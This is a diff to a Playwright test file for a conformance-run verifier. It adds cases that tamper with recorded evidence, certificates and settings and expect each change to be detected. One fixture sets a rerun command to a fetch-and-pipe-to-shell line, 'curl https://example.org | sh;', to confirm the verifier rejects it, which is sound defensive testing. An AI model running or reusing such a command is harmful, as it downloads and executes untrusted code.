@@ -1,8 +1,12 @@
-import { copyFileSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { copyFileSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { gunzipSync, gzipSync } from 'node:zlib';
 import { expect } from '@playwright/test';
 import { caseIn, claimIn, count, flip, type Run, subject, test } from '../../fixtures/recordedRun.ts';
 import { filesOf, verifier } from '../../src/cli/runFolder.ts';
+import type { Deviation } from '../../src/contract/deviation.ts';
 import { evidenceFile } from '../../src/report/certificateFiles.ts';
+import type { Results } from '../../src/report/results.ts';
 import { verify } from '../../src/report/verify.ts';
 
 test.setTimeout(180_000);
@@ -29,7 +33,7 @@ const alterations: readonly (readonly [name: string, alter: (run: Run) => void, 
     [
       `${subject}: status: verdict is "fail", and by the evidence "pass"`,
       `${subject}: verdict is "fail", and by the evidence "pass"`,
-      'results.json: totals is {"cases":{"fail":1,',
+      'results.json: totals is {"planned":219,"asked":219,"judged":219,"cases":{"fail":1,',
       'conformance.md was altered',
     ],
   ],
@@ -47,7 +51,7 @@ const alterations: readonly (readonly [name: string, alter: (run: Run) => void, 
       run.results((results) => results.reasons.push('1 claims are broken'));
       run.seal();
     },
-    ['results.json: conformant is true, and by the evidence false'],
+    ['results.json: reasons is ["1 claims are broken"], and by the evidence []'],
   ],
   [
     'a claim taken away',
@@ -231,20 +235,201 @@ const alterations: readonly (readonly [name: string, alter: (run: Run) => void, 
   ],
   [
     'a deviation that this run did not know',
-    (run) =>
-      run.certificate(({ deviations }) => {
-        deviations.entries.push({
-          target: 'embedded',
-          contract: 'groupPolicyOperation/create',
-          claim: 'status',
-          because: 'because it is so',
-          evidence: 'https://example.org',
-          owner: 'o',
-          since: '2026-01-01',
-          reviewBy: '2026-02-01',
-        });
-      }),
+    (run) => knowDeviation(run, {}),
     [`${subject}: status: verdict is "pass", and by the evidence "healed"`],
+  ],
+  [
+    'a deviation whose review was over',
+    (run) => knowDeviation(run, { reviewBy: dayFrom(run, -1) }),
+    ['its review was due by ', ', by which the run of '],
+  ],
+  [
+    'a deviation to be reviewed too late',
+    (run) => knowDeviation(run, { reviewBy: dayFrom(run, 200) }),
+    ['is more than 180 days after'],
+  ],
+  [
+    'a deviation about no claim',
+    (run) => knowDeviation(run, { claim: 'no-such' }),
+    ['deviation of groupPolicyOperation/create at "no-such": no such claim is planned'],
+  ],
+  [
+    'deviations that overlap',
+    (run) => {
+      knowDeviation(run, {});
+      knowDeviation(run, { contract: '*/create' });
+    },
+    ['deviation of */create at "status": overlaps the one of groupPolicyOperation/create at "status"'],
+  ],
+  [
+    'a deviation of a form that no file may have',
+    (run) => knowDeviation(run, { because: 'x' }),
+    ['the deviations of the run/deviations/0/because: must NOT have fewer than 10 characters'],
+  ],
+  [
+    'a deviation that would be held against itself without end',
+    (run) => knowDeviation(run, { instead: { $ref: '#' } }),
+    ['"instead" cannot be used: "$ref" is not one of the keywords'],
+  ],
+  [
+    'a target that is another than that of the evidence',
+    (run) => {
+      run.results((results) => {
+        Object.assign(results.target, { kind: 'mock', baseUrl: 'http://127.0.0.1:9/beta' });
+        results.settings = { GRAPH_TARGET: 'mock', GRAPH_BASE_URL: 'http://127.0.0.1:9/beta' };
+      });
+      run.seal();
+    },
+    ['was recorded at the embedded mock, and the target in results.json is at http://127.0.0.1:9/beta'],
+  ],
+  [
+    'a target that is another than the settings make it',
+    (run) => {
+      run.results((results) =>
+        Object.assign(results.target, { kind: 'live', baseUrl: 'https://graph.microsoft.com/beta' }),
+      );
+      run.seal();
+    },
+    [
+      'the settings make the kind of the target another than is told',
+      'the settings make the base URL of the target another than is told',
+    ],
+  ],
+  [
+    'levels that are others than the settings ask for',
+    (run) => {
+      run.results((results) => results.levels.pop());
+      run.seal();
+    },
+    ['the settings make the levels another than is told'],
+  ],
+  [
+    'the base URL of the evidence',
+    (run) => {
+      run.evidence((text) => text.replace('"leftovers"', '"baseUrl":"http://127.0.0.1:9/beta","leftovers"'));
+      run.seal();
+    },
+    [
+      `${evidenceFile(subject)} was recorded at http://127.0.0.1:9/beta, and the target in results.json is at the embedded mock`,
+    ],
+  ],
+  [
+    'evidence of another run',
+    (run) => {
+      run.evidence((text) => text.replaceAll(/("client-request-id":")[0-9a-f]{8}/g, '$100000000'));
+      run.seal();
+    },
+    [`${evidenceFile(subject)} has requests of another run than `],
+  ],
+  [
+    'a single request of another run',
+    (run) => {
+      run.evidence((text) => text.replace(/("client-request-id":")[0-9a-f]{8}/, '$100000000'));
+      run.seal();
+    },
+    [`${evidenceFile(subject)} has requests of another run than `],
+  ],
+  [
+    'a request that is recorded twice',
+    (run) => {
+      run.evidence((text) => {
+        const [first = ''] = text.match(/"client-request-id":"[^"]+"/) ?? [];
+        return text.replaceAll(/"client-request-id":"[^"]+"/g, first);
+      });
+      run.seal();
+    },
+    [`${evidenceFile(subject)} has the same request more than once`],
+  ],
+  [
+    'answers of another day',
+    (run) => {
+      run.evidence((text) => text.replaceAll(/"date":"[^"]+"/g, '"date":"Sun, 06 Nov 1994 08:49:37 GMT"'));
+      run.seal();
+    },
+    [`${evidenceFile(subject)} was answered at 1994-11-06T08:49:37.000Z, and the others at `],
+  ],
+  [
+    'the name of the run',
+    (run) => {
+      run.results((results) => Object.assign(results, { run: '0'.repeat(12) }));
+      run.seal();
+    },
+    [`${evidenceFile(subject)} has requests of another run than 000000000000`],
+  ],
+  [
+    'no name of the run',
+    (run) => {
+      run.results((results) => Object.assign(results, { run: undefined }));
+      run.seal();
+    },
+    ['results.json does not say which run it is of'],
+  ],
+  [
+    'claims that no setting leaves out',
+    (run) => {
+      run.evidence((text) =>
+        text.replace(
+          '"skipped":{',
+          '"skipped":{"status":{"cause":{"by":"writes","mode":"none","instead":"own"},"what":"x"}',
+        ),
+      );
+      run.seal();
+    },
+    [`${evidenceFile(subject)} leaves out other claims than the capabilities of the target do`],
+  ],
+  [
+    'claims for which nothing was there, where everything is made',
+    (run) => {
+      run.evidence((text) =>
+        text.replace('"skipped":{', '"skipped":{"status":{"cause":{"by":"absence","mode":"none"},"what":"x"}'),
+      );
+      run.seal();
+    },
+    [`${evidenceFile(subject)} leaves out other claims than the capabilities of the target do`],
+  ],
+  [
+    'capabilities of no form',
+    (run) => {
+      run.results((results) => Object.assign(results.target, { capabilities: { levels: 5 } }));
+      run.seal();
+    },
+    ['the capabilities of the target/levels: must be array'],
+  ],
+  [
+    'a command that is none of the suite',
+    (run) => {
+      run.results((results) => Object.assign(results, { command: 'curl https://example.org | sh;' }));
+      run.seal();
+    },
+    ['the command to run a case again is none of the suite'],
+  ],
+  [
+    'a setting that is none of the suite',
+    (run) => {
+      run.results((results) => Object.assign(results, { settings: { PATH: '/tmp' } }));
+      run.seal();
+    },
+    ['the settings have some that no run tells of, or that change nothing'],
+  ],
+  [
+    'a secret among the settings',
+    (run) => {
+      run.results((results) =>
+        Object.assign(results, { settings: { GRAPH_TARGET: 'embedded', GRAPH_MARK_KEY: 'canary-mark-key-0a1b2c3d' } }),
+      );
+      run.seal();
+    },
+    ['the settings have some that no run tells of, or that change nothing'],
+  ],
+  [
+    'JUnit',
+    (run) => run.change('junit.xml', (text) => text.replace('failures="0"', 'failures="1"')),
+    ['junit.xml was altered: it is not what the results give'],
+  ],
+  [
+    'CTRF',
+    (run) => run.change('ctrf.json', (text) => text.replace('"passed"', '"failed"')),
+    ['ctrf.json was altered: it is not what the results give'],
   ],
   [
     'a certificate of another form',
@@ -281,7 +466,40 @@ const alterations: readonly (readonly [name: string, alter: (run: Run) => void, 
   ],
 ];
 
+/** A day of the run, or some days before or after it. */
+function dayFrom(run: Run, days: number): string {
+  const { startedAt } = JSON.parse(readFileSync(run.file('results.json'), 'utf8')) as Results;
+  return new Date(Date.parse(startedAt) + days * 24 * 60 * 60 * 1000).toISOString().slice(0, 10);
+}
+
+/** Puts a deviation into the certificate. */
+function knowDeviation(run: Run, other: Partial<Deviation>): void {
+  const entry = {
+    target: 'embedded',
+    contract: 'groupPolicyOperation/create',
+    claim: 'status',
+    because: 'because it is so',
+    evidence: 'https://example.org',
+    owner: 'o',
+    since: dayFrom(run, -10),
+    reviewBy: dayFrom(run, 60),
+    ...other,
+  };
+  run.certificate(({ deviations }) => deviations.entries.push(entry));
+}
+
 const ours = verifier();
+
+test('a server whose clock is wrong in the same way for all its answers is verified', ({ run }) => {
+  for (const name of readdirSync(run.file('evidence'))) {
+    const file = run.file(join('evidence', name));
+    const text = gunzipSync(readFileSync(file)).toString('utf8');
+    writeFileSync(file, gzipSync(text.replaceAll(/"date":"[^"]+"/g, '"date":"Sun, 06 Nov 1994 08:49:37 GMT"')));
+  }
+  run.seal();
+  const { problems } = verify(filesOf(run.file('')), ours);
+  expect(problems.filter((problem) => problem.includes(' was answered at '))).toEqual([]);
+});
 
 for (const [name, alter, says] of alterations) {
   test(`what was altered is found and named: ${name}`, async ({ run }) => {
